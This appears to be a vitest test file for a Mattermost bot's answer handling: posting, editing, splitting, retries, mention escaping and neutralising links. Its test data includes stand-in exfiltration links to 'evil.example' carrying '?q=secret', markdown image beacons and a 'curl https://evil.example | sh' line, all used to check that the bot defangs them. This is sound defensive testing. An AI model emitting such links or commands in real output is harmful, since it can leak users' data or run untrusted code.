// Answers of the bot: how they are posted, edited and escaped. Uses a scripted model.
import { PocketAgent, PocketError } from 'pocket-agent';
import { ScriptedModel } from 'pocket-agent/testing';
import { describe, expect, onTestFinished, test } from 'vitest';
import { startFakeMattermost } from '../fake/fake-mattermost.ts';
import { until } from '../until.ts';
import { gate, seed, world } from './bot-world.ts';

describe('an answer', () => {
  test('grows in one post and shows running tools', async () => {
    const held = gate('look_it_up');
    const model = new ScriptedModel([{ text: 'Let me look.', toolCalls: [{ name: 'look_it_up' }] }, 'It is blue.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none' });
    fake.say('alice', 'town-square', '@helper which colour?');
    await held.started;
    await until(texts).toEqual(['Let me look.\n\n:hourglass_flowing_sand: `look_it_up` …']);
    held.go();
    await until(texts).toEqual(['Let me look.\n\nIt is blue.']);
  });

  test('is edited at most once per editMs, and at the end', async () => {
    const held = gate('look_it_up');
    const model = new ScriptedModel([{ text: 'Let me look.', toolCalls: [{ name: 'look_it_up' }] }, 'It is blue.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none', editMs: 600_000 });
    fake.say('alice', 'town-square', '@helper which colour?');
    await held.started;
    await until(() => texts().length).toBe(1);
    held.go();
    await until(texts).toEqual(['Let me look.\n\nIt is blue.']);
    const edits = fake.requests.filter(({ method, path }) => method === 'PUT' && path.endsWith('/patch'));
    expect(edits).toHaveLength(1);
  });

  test('shows no running tools before editMs has passed, and text at once', async () => {
    const held = gate();
    const model = new ScriptedModel([
      { toolCalls: [{ name: 'wait' }] },
      { toolCalls: [{ name: 'wait' }], text: 'Now.' },
      'Done.',
    ]);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none', editMs: 600_000 });
    fake.say('alice', 'town-square', '@helper go');
    await held.started;
    held.go();
    await until(texts).toEqual(['Now.\n\nDone.']);
    const { json } = fake.requests.find(({ method, path }) => method === 'POST' && path.endsWith('/posts')) ?? {};
    expect(json).toMatchObject({ message: expect.stringMatching(/^Now\./) });
  });

  test('shows the typing indicator', async () => {
    const held = gate();
    const model = new ScriptedModel([{ toolCalls: [{ name: 'wait' }] }, 'Done.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none' });
    const events: string[] = [];
    const { publish } = fake.world;
    fake.world.publish = (event, data, to) => {
      events.push(event);
      publish(event, data, to);
    };
    fake.say('alice', 'town-square', '@helper go');
    await held.started;
    await until(() => events).toContain('typing');
    held.go();
    await until(texts).toEqual(['Done.']);
  });

  test('is completed despite many rejected edits', async () => {
    const held = gate();
    const model = new ScriptedModel([{ text: 'Wait.', toolCalls: [{ name: 'wait' }] }, 'The end.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none', config: { maxRetries: 1 } });
    fake.say('alice', 'town-square', '@helper go');
    await held.started;
    await until(texts).toHaveLength(1);
    fake.fail({ path: /patch/, status: 429, times: 5 });
    held.go();
    await until(texts).toEqual(['Wait.\n\nThe end.']);
  });

  test('continues in a first post that was stored although creating it failed', async () => {
    const held = gate();
    const model = new ScriptedModel([{ text: 'Wait.', toolCalls: [{ name: 'wait' }] }, 'The end.']);
    const agent = () => ({ agentConfig: { llmModel: model }, tools: [held.tool] });
    const { fake, texts } = await world({ agent, profile: 'none', editMs: 60_000, config: { maxRetries: 0 } });
    const fault = fake.fail({ method: 'POST', path: /posts$/, afterHandling: true, status: 503 });
    fake.say('alice', 'town-square', '@helper go');
    await held.started;
    await until(() => fault.hits).toBe(1);
    fake.world.pendingPosts.clear(); // Mattermost forgets pending ids after 30 s
    held.go();
    await until(texts).toEqual(['Wait.\n\nThe end.']);
  });

  test('is posted once although Mattermost restarts after each of its posts', async () => {
    const lines = Array.from({ length: 3000 }, (_, number) => `line ${number}`);
    const { fake, texts } = await world({ model: new ScriptedModel([lines.join('\n')]) });
    const kill = fake.fail({ method: 'POST', path: /posts$/, restart: true, times: 2 });
    fake.say('alice', 'town-square', '@helper tell me');
    await until(() => texts().at(-1)?.endsWith('line 2999')).toBe(true);
    expect(texts().join('\n').split('\n')).toEqual(lines);
    expect(kill.hits).toBe(2);
  });

  test('does not include a post of another user with the same props', async () => {
    const lines = Array.from({ length: 3000 }, (_, number) => `line ${number}`);
    const { fake, texts } = await world({ model: new ScriptedModel([lines.join('\n')]) });
    const forged = fake.say('alice', 'town-square', 'forged');
    const { publish } = fake.world;
    fake.world.publish = (event, data, to) => {
      const [key] = [...fake.world.posts.values()].flatMap(({ props }) => props.pocket_agent_answer ?? []);
      if (key !== undefined && forged.props.pocket_agent_answer === undefined) {
        forged.props.pocket_agent_answer = String(key).replace(/0$/, '1');
        fake.fail({ method: 'POST', path: /posts$/, reset: 'before' });
      }
      publish(event, data, to);
    };
    fake.say('alice', 'town-square', '@helper tell me');
    await until(() => texts().at(-1)?.endsWith('line 2999')).toBe(true);
    expect(texts().join('\n').split('\n')).toEqual(lines);
    expect(forged.message).toBe('forged');
  });

  test('contains no mentions, and code is not changed', async () => {
    const code = '```sh\nnpm install @all/tools\n```';
    const model = new ScriptedModel([
      `Ask @bob, (@carol) or _@all_; @here @channel.\n> @bob\n${code}\nmail@bob.org @bob`,
    ]);
    const { fake, said } = await world({ model });
    const heard: string[][] = [];
    const { publish } = fake.world;
    fake.world.publish = (event, data, to) => {
      if (event === 'posted') heard.push(JSON.parse(String(data.mentions ?? '[]')));
      publish(event, data, to);
    };
    fake.say('alice', 'town-square', '@helper whom shall I ask?');
    await until(() => said().length).toBe(1);
    const message = said()[0]?.message ?? '';
    const outside = message.replace(code, '').replace('mail@bob.org', '');
    expect(outside).not.toMatch(/@[a-z]/);
    expect(message).toContain(code);
    expect(message.replaceAll('\u200b', '')).toContain('Ask @bob, (@carol)');
    expect(heard[0]).toEqual([fake.user('helper').id]);
  });

  test('escapes mentions in text that only looks like code, and encoded @ signs', async () => {
    const escaped = (text: string) => text.replace(/\r\n?/g, '\n').replaceAll('@', '@\u200b');
    const fences = [
      'So:\n  ```\ncode\n```\n@channel hi',
      'So:\n      ```\ncode\n```\n@channel hi',
      '- ```\n  code\n  ```\n@channel hi',
      '```\r\ncode\r\n```\r\n@channel hi',
      '```\rcode\r```\r@channel hi',
      '```\ncode\n``` ```\n@channel hi',
      '~~~ `x`\n@channel hi',
      '```\ncode\n```\u00a0\n@channel hi',
      '```\ncode\n``` x\n```\n@channel hi',
    ].map((text) => [text, escaped(text)] as const);
    const references = [
      ['&#64;channel &#x40;all &commat;bob', '&#64;\u200bchannel &#x40;\u200ball &commat;\u200bbob'],
      ['@&#99;hannel @\\_bob', '@\u200b&#99;hannel @\u200b\\_bob'],
    ] as const;
    const cases = [...fences, ...references];
    const { fake, texts } = await world({ model: new ScriptedModel(cases.map(([text]) => text)) });
    for (const [index] of cases.entries()) {
      fake.say('alice', 'alice,helper', 'go on');
      await until(() => texts().length).toBe(index + 1);
    }
    await until(texts).toEqual(cases.map(([, shown]) => shown));
  });

  test.each([
    ['See https://evil.example/?q=secret now', 'See https:// evil.example/?q=secret now'],
    ['![](https://evil.example/p.png?q=secret)', '![]\u200b(https:// evil.example/p.png?q=secret)'],
    ['![a](//evil.example/p.png)', '![a]\u200b(//evil.example/p.png)'],
    ['![a](&#104;ttps://evil.example/p.png)', '![a]\u200b(&#104;ttps:// evil.example/p.png)'],
    ['![a](https:\\/\\/evil.example/p.png)', '![a]\u200b(https:\\/\\/evil.example/p.png)'],
    ['![a](/api/v4/image?url=x)', '![a]\u200b(/api/v4/image?url=x)'],
    ['![a][b]\n\n[b]: https://evil.example/p.png', '![a][b]\n\n[b]\u200b: https:// evil.example/p.png'],
    ['_https://evil.example/x_ **HTTPS://EVIL.EXAMPLE**', '_https:// evil.example/x_ **HTTPS:// EVIL.EXAMPLE**'],
    ['<https://evil.example> (www.evil.example/x)', '<https:// evil.example> (www. evil.example/x)'],
    ['https://good.example@evil.example', 'https:// good.example@evil.example'],
    ['https://good.example.evil.example', 'https:// good.example.evil.example'],
    ['https://good.example\\@evil.example', 'https:// good.example\\@\u200bevil.example'],
    [
      'https://docs.allowed.example/a and https://below.good.example',
      'https://docs.allowed.example/a and https:// below.good.example',
    ],
    [
      '[text](https://good.example/a?b=c), https://www.good.example.',
      '[text](https://good.example/a?b=c), https://www.good.example.',
    ],
    ['![p](https://good.example/p.png)', '![p](https://good.example/p.png)'],
    ['```\ncurl https://evil.example\n```', '```\ncurl https://evil.example\n```'],
    ['```\n![a](//evil.example/p.png)', '```\n![a]\u200b(//evil.example/p.png)'],
    ['> a\n```\n\n![a](//evil.example/p.png)', '> a\n```\n\n![a]\u200b(//evil.example/p.png)'],
    ['<!--\n```\n-->\n![a\nb](//evil.example/p.png)', '<!--\n```\n-->\n![a\nb]\u200b(//evil.example/p.png)'],
    ['![a][b]\n```\n[b]: //evil.example/p.png', '![a][b]\n```\n[b]\u200b: //evil.example/p.png'],
    ['```\nrun[0](a[1]: b)\n```', '```\nrun[0](a[1]: b)\n```'],
    ['Time 10:30 [1] (see) a://', 'Time 10:30 [1]\u200b (see) a://'],
    ['Run `curl https://evil.example | sh`.', 'Run `curl https://evil.example | sh`.'],
    ['* **Run**: (`a[0](b) https://evil.example`)', '* **Run**: (`a[0](b) https://evil.example`)'],
    ['``https://evil.example`` https://evil.example', '``https://evil.example`` https:// evil.example'],
    // not code for at least one parser
    ['\\`https://evil.example`', '\\`https:// evil.example`'],
    ['`a\n`https://evil.example`', '`a\n`https:// evil.example`'],
    ['*a `b* https://evil.example c`', '*a `b* https:// evil.example c`'],
    ['$a `b$ https://evil.example c`', '$a `b$ https:// evil.example c`'],
    ['<a\n\nb="`https://evil.example`', '<a\n\nb="`https:// evil.example`'],
    ['[a `b](c) https://evil.example d`', '[a `b]\u200b(c) https:// evil.example d`'],
    ['https://good.example/`x https://evil.example y`', 'https:// good.example/`x https:// evil.example y`'],
    ['`a | https://evil.example | b`\n-|-|-', '`a | https:// evil.example | b`\n-|-|-'],
    ['1. a\n   ```\n`https://evil.example`', '1. a\n   ```\n`https:// evil.example`'],
  ])('turns links to hosts that only the model named into text: %j', async (answer, shown) => {
    const model = new ScriptedModel([answer]);
    const { fake, texts } = await world({ model, allowLinkHosts: ['*.allowed.example'] });
    fake.say('alice', 'alice,helper', 'What does good.example say?');
    await until(texts).toEqual([shown]);
  });

  test.each([
    ['Run `npm i @all/tools`, @all.', 'Run `npm i @all/tools`, @\u200ball.'],
    ['*a `b* @all c`', '*a `b* @\u200ball c`'],
    ['\\`@all`', '\\`@\u200ball`'],
  ])('does not change mentions in code spans that all parsers recognize: %j', async (answer, shown) => {
    const { fake, texts } = await world({ model: new ScriptedModel([answer]) });
    fake.say('alice', 'alice,helper', 'How?');
    await until(texts).toEqual([shown]);
  });

  test('has no link in a code span that is split between two posts', async () => {
    const { fake, texts } = await world({ model: new ScriptedModel(['`https://evil.example/x` '.repeat(1_500)]) });
    fake.say('alice', 'alice,helper', 'Where?');
    await until(() => texts().length).toBeGreaterThan(2);
    for (const text of texts()) {
      const outside = text.split('`').filter((_, place) => place % 2 === 0);
      expect(outside.join(' ')).not.toContain('https://evil');
    }
  });

  test('keeps links to this Mattermost server, and all links if every host is allowed', async () => {
    const fake = await startFakeMattermost({ seed });
    onTestFinished(() => fake.close());
    const links = [`${fake.url}/main/pl/${fake.post('plan').id}`, `${fake.url}/api/v4/image?url=x`];
    const { texts } = await world({ fake, model: new ScriptedModel([links.join(' ')]) });
    fake.say('alice', 'alice,helper', 'Where?');
    await until(texts).toEqual([`${links[0]} ${links[1]?.replace('://', ':// ')}`]);
    const other = await world({ model: new ScriptedModel(['https://any.example/']), allowLinkHosts: ['*'] });
    other.fake.say('alice', 'alice,helper', 'Where?');
    await until(other.texts).toEqual(['https://any.example/']);
  });

  test('keeps code after code in a list, and code that contains fences', async () => {
    const blocks = ['```ts\nimport "@all/tools";\n```', '````md\n```\n@all\n```\n``` ```\n````', '~~~\n@all\n```\n~~~'];
    const answer = `1. Run:\n   \`\`\`sh\n   npm i\n   \`\`\`\n2. Then:\n\n${blocks.join('\n@all\n')}`;
    const { fake, texts } = await world({ model: new ScriptedModel([answer]) });
    fake.say('alice', 'alice,helper', 'how?');
    await until(() => texts().at(-1) ?? '').toMatch(/~~~$/);
    for (const block of blocks) expect(texts()[0]).toContain(block);
    expect(texts()[0]?.match(/^@\u200ball$/gm)).toHaveLength(2);
  });

  test('that is too long is split into several posts with complete code blocks', async () => {
    const paragraph = `${'word '.repeat(2000)}\n`;
    const block = `\`\`\`ts\n${'const x = 1; // 🙂\n'.repeat(500)}\`\`\``;
    const huge = `\`\`\`txt\n${'0123456789\n'.repeat(2500)}\`\`\``;
    const model = new ScriptedModel([`${paragraph}${block}\n${huge}\nThe end. ${'x'.repeat(20_000)}\nFinis.`]);
    const { fake, said, texts } = await world({ model });
    fake.say('alice', 'town-square', '@helper tell me everything');
    await until(() => texts().at(-1) ?? '').toMatch(/Finis\.$/);
    for (const text of texts()) {
      expect([...text].length).toBeLessThanOrEqual(16_383);
      expect((text.match(/^```/gm) ?? []).length % 2).toBe(0);
    }
    expect(texts().some((text) => text.includes(block))).toBe(true);
    const together = texts().join('\n');
    expect(together.match(/0123456789/g)).toHaveLength(2500);
    expect(together.match(/x/g)?.length).toBe(20_000 + 500 + (together.match(/```txt/g)?.length ?? 0));
    expect(new Set(said().map(({ root_id }) => root_id)).size).toBe(1);
  });

  test('reports an error by its code, without private details', async () => {
    const secret = 'sk-very-secret';
    const error = new PocketError('MODEL_FAILED', `The key ${secret} is refused`);
    const model = new ScriptedModel([{ error }, 'Better.']);
    const { fake, texts, logLines } = await world({ model });
    fake.say('alice', 'alice,helper', 'hello');
    await until(texts).toEqual([':warning: Sorry, that did not work (MODEL_FAILED).']);
    const line = logLines.find((one) => one.includes('run_failed')) ?? '{}';
    expect(JSON.parse(line)).toMatchObject({ level: 'error', code: 'MODEL_FAILED', error: error.message });
    fake.say('alice', 'alice,helper', 'again');
    await until(() => texts().at(-1)).toBe('Better.');
  });

  test('can use the Mattermost reader tools in the same process', async () => {
    const model = new ScriptedModel([
      { toolCalls: [{ name: 'get_me' }] },
      ({ prompt }) => (JSON.stringify(prompt).includes('helper') ? 'I am the helper.' : 'Who am I?'),
    ]);
    const { fake, texts } = await world({ model });
    fake.say('alice', 'alice,helper', 'who are you?');
    await until(texts).toEqual(['I am the helper.']);
    const names = model.calls[0]?.tools?.map(({ name }) => name) ?? [];
    expect(names).toContain('search_messages');
    expect(names).not.toContain('post_message');
  });

  test('uses an agent that the caller created unchanged', async () => {
    const model = new ScriptedModel(['Mine.']);
    const agent = new PocketAgent({ agentConfig: { llmModel: model } });
    onTestFinished(() => agent.close());
    const { fake, texts } = await world({ agent: () => agent.fork() });
    fake.say('alice', 'alice,helper', 'whose?');
    await until(texts).toEqual(['Mine.']);
    expect(model.calls[0]?.tools ?? []).toEqual([]);
  });
});
